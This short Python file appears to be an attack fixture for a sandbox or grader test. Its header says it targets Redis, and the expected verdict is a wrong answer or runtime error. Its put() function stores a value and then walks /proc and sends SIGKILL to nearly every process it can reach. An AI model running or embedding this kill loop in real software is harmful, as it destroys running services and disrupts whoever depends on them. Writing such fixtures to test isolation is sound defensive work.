# attack: kills every process that it can, Redis among them
# door: redis
# services: redis
# verdict: wrong_answer or runtime_error
import os
import signal

import redis

store = redis.Redis.from_url(os.environ["REDIS_URL"], decode_responses=True)
store.set("loaded", "1")


def put(key, value):
    store.set(key, value)
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in (1, os.getpid(), os.getppid()):
            try:
                os.kill(int(name), signal.SIGKILL)
            except OSError:
                pass
